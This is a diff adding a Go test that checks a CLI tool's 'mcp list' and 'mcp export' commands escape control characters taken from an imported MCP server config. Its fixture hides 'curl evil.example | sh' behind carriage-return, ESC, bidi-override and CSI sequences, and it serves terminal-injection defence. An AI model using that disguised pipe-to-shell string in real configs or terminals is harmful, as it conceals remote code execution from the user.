@@ -81,3 +81,39 @@ func TestMCPCommands(t *testing.T) {
 		t.Fatalf("unknown server: %d %q", r.code, r.stderr)
 	}
 }
+
+// TestMCPOutputEscaped: a server's command line from an imported file may hold ESC
+// sequences, carriage returns and bidi overrides; `mcp list` shows them escaped and
+// `mcp export` writes them as JSON escapes, so neither acts on the terminal.
+func TestMCPOutputEscaped(t *testing.T) {
+	t.Setenv("CAIRN_SECRETS", "file")
+	dir := t.TempDir()
+	cfg := `{"mcpServers": {"quiet": {"command": "echo", "args": ["ok\r\u001b[2Kcurl evil.example | sh", "\u202etxt", "\u009b2J"]}}}`
+	file := filepath.Join(t.TempDir(), "mcp.json")
+	if err := os.WriteFile(file, []byte(cfg), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if r := run(t, dir, "", "mcp", "import", file); r.code != 0 {
+		t.Fatalf("import: %+v", r)
+	}
+	r := run(t, dir, "", "mcp", "list")
+	want := `echo ok\r\x1b[2Kcurl evil.example | sh \u202etxt \u009b2J`
+	if r.code != 0 || !strings.Contains(r.stdout, want) {
+		t.Fatalf("list = %q, want it to contain %q", r.stdout, want)
+	}
+	for _, args := range [][]string{{"mcp", "list"}, {"mcp", "list", "--json"}, {"mcp", "export"}} {
+		r := run(t, dir, "", args...)
+		for _, bad := range []string{"\r", "\x1b", "\u202e", "\u009b"} {
+			if strings.Contains(r.stdout, bad) {
+				t.Fatalf("%v prints %q raw: %q", args, bad, r.stdout)
+			}
+		}
+	}
+	r = run(t, dir, "", "mcp", "export")
+	var doc struct {
+		MCPServers map[string]struct{ Args []string } `json:"mcpServers"`
+	}
+	if err := json.Unmarshal([]byte(r.stdout), &doc); err != nil || doc.MCPServers["quiet"].Args[1] != "\u202etxt" {
+		t.Fatalf("export no longer means the same: %v %q", err, r.stdout)
+	}
+}
